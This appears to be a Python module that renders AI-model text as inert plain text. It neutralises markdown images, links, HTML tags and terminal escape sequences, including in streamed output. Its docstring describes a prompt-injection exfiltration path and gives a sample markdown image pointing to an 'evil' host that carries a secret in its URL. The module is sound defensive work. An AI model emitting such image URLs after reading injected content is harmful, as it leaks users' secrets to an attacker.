"""Render model text for display so that nothing in it is ever fetched.

Markdown images are the classic exfiltration path: an injected page makes the model
write ``![](https://evil/?q=<secret>)`` and the viewer fetches the URL. The TUI and
reports show model text through :func:`render_safe`, which turns every construct
that a renderer would fetch or follow into plain text:

* ``![alt](url)`` and ``![alt][ref]`` → ``[image: alt <url>]``;
* ``[text](url)`` → ``text <url>``; reference definitions ``[ref]: url`` → ``[ref] <url>``;
* HTML tags (``<img src>``, ``<iframe>``, ``<script>``, ``<link>`` …) → their text
  with the angle brackets replaced (``‹img src=…›``); autolinks ``<https://…>`` → the URL;
* control characters (terminal escape sequences: OSC 8 hyperlinks, OSC 52 clipboard
  writes, title changes, a carriage return that overwrites a line) are removed; newlines
  and tabs stay.

:class:`SafeStream` does the same for text that arrives in pieces (a console printing
tokens as they come): text is passed on at once up to the first character that may open
a construct (``![``, ``[``, ``<``, an escape), and from there on once the line ends, so a
construct is always rendered whole.

URLs are shown, never removed, so a person can still see where a link points;
the output contains no markdown image, link or HTML syntax, so rendering it again as
markdown fetches nothing. Not covered: terminals that auto-link bare URLs on click
(a person's click is a decision, not an automatic fetch).
"""

from __future__ import annotations

import re

IMAGE_INLINE = re.compile(r"!\[([^\]]*)\]\(\s*<?([^)\s>]*)>?(?:\s+[\"'][^)]*[\"'])?\s*\)")
IMAGE_REF = re.compile(r"!\[([^\]]*)\]\[([^\]]*)\]")
LINK_INLINE = re.compile(r"\[([^\]]*)\]\(\s*<?([^)\s>]*)>?(?:\s+[\"'][^)]*[\"'])?\s*\)")
REF_DEFINITION = re.compile(r"^\s{0,3}\[([^\]]+)\]:\s*<?(\S+?)>?(?:\s+.*)?$", re.MULTILINE)
AUTOLINK = re.compile(r"<((?:https?|ftp|data|file)[^>\s]*)>", re.IGNORECASE)
HTML_TAG = re.compile(r"<(/?[A-Za-z!][^>]*)>")
CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")
OPENERS = re.compile(r"[\[<\x1b\x9b\x9d]|!(?=\[|$)")  # "!" alone at the end may be the start of "!["


def render_safe(markdown: str) -> str:
    """Model text as plain text: images and links shown as text, nothing fetchable left."""
    definitions = {m.group(1).lower(): m.group(2) for m in REF_DEFINITION.finditer(markdown)}
    text = REF_DEFINITION.sub(lambda m: f"[{m.group(1)}] <{m.group(2)}>", markdown)
    text = IMAGE_INLINE.sub(lambda m: _image(m.group(1), m.group(2)), text)
    text = IMAGE_REF.sub(lambda m: _image(m.group(1), definitions.get((m.group(2) or m.group(1)).lower(), "")), text)
    text = LINK_INLINE.sub(lambda m: f"{m.group(1)} \u2039{m.group(2)}\u203a", text)
    text = AUTOLINK.sub(lambda m: m.group(1), text)
    text = HTML_TAG.sub(lambda m: "\u2039" + m.group(1) + "\u203a", text)
    text = text.replace("<", "\u2039").replace(">", "\u203a")  # what is left: no tag can re-form
    text = CONTROL.sub("", text)  # no terminal escape sequence survives
    return text.replace("![", "!\u200b[")  # an image opener that survived nesting stays inert


class SafeStream:
    """:func:`render_safe` for text that arrives in pieces: ``feed`` each piece, then ``finish``."""

    def __init__(self) -> None:
        self.held = ""

    def feed(self, piece: str) -> str:
        """What can be shown now; the rest of a line that may hold a construct is held back."""
        text = self.held + piece
        cut = text.rfind("\n") + 1  # whole lines are rendered whole
        opener = OPENERS.search(text, cut)
        keep = opener.start() if opener else len(text)
        shown, self.held = text[:keep], text[keep:]
        return render_safe(shown) if shown else ""

    def finish(self) -> str:
        """The text still held back, rendered."""
        shown, self.held = self.held, ""
        return render_safe(shown) if shown else ""


def _image(alt: str, url: str) -> str:
    alt = alt.replace("[", "(").replace("]", ")")
    return f"[image: {alt} \u2039{url}\u203a]" if url else f"[image: {alt}]"
